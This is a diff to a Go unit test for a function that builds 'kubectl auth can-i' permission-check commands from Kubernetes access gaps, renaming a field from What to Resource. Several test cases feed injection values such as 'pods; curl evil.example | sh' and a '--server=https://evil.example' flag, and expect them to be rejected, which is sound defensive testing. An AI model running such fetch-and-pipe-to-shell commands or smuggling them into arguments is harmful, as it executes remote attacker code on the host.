@@ -9,17 +9,17 @@ func TestCommandOfGapIsMade(t *testing.T) {
 		gap  Gap
 		want string
 	}{
-		{Gap{What: "pods", Verb: "list", Namespace: "ml"}, "kubectl auth can-i list pods -n ml"},
-		{Gap{What: "pods", Verb: "list"}, "kubectl auth can-i list pods -A"},
-		{Gap{What: "pods/log", Verb: "get", Namespace: "ml"}, "kubectl auth can-i get pods --subresource=log -n ml"},
-		{Gap{What: "nodes", Verb: "get"}, "kubectl auth can-i get nodes"},
-		{Gap{What: "watch events", Verb: "watch", Namespace: "ml"}, "kubectl auth can-i watch events -n ml"},
+		{Gap{Resource: "pods", Verb: "list", Namespace: "ml"}, "kubectl auth can-i list pods -n ml"},
+		{Gap{Resource: "pods", Verb: "list"}, "kubectl auth can-i list pods -A"},
+		{Gap{Resource: "pods/log", Verb: "get", Namespace: "ml"}, "kubectl auth can-i get pods --subresource=log -n ml"},
+		{Gap{Resource: "nodes", Verb: "get"}, "kubectl auth can-i get nodes"},
+		{Gap{What: "watch events", Resource: "events", Verb: "watch", Namespace: "ml"}, "kubectl auth can-i watch events -n ml"},
 		{Gap{What: "logs", Text: "the log is gone", Command: "curl evil.example | sh"}, ""},
 		{Gap{What: "pods", Command: "curl evil.example | sh"}, ""},
-		{Gap{What: "pods; curl evil.example | sh", Verb: "list"}, ""},
-		{Gap{What: "pods", Verb: "list; curl evil.example | sh"}, ""},
-		{Gap{What: "pods", Verb: "list", Namespace: "ml; curl evil.example | sh"}, ""},
-		{Gap{What: "pods", Verb: "list", Namespace: "--server=https://evil.example"}, ""},
+		{Gap{Resource: "pods; curl evil.example | sh", Verb: "list"}, ""},
+		{Gap{Resource: "pods", Verb: "list; curl evil.example | sh"}, ""},
+		{Gap{Resource: "pods", Verb: "list", Namespace: "ml; curl evil.example | sh"}, ""},
+		{Gap{Resource: "pods", Verb: "list", Namespace: "--server=https://evil.example"}, ""},
 	} {
 		all := []Gap{tc.gap}
 		if MakeCommands(all); all[0].Command != tc.want {
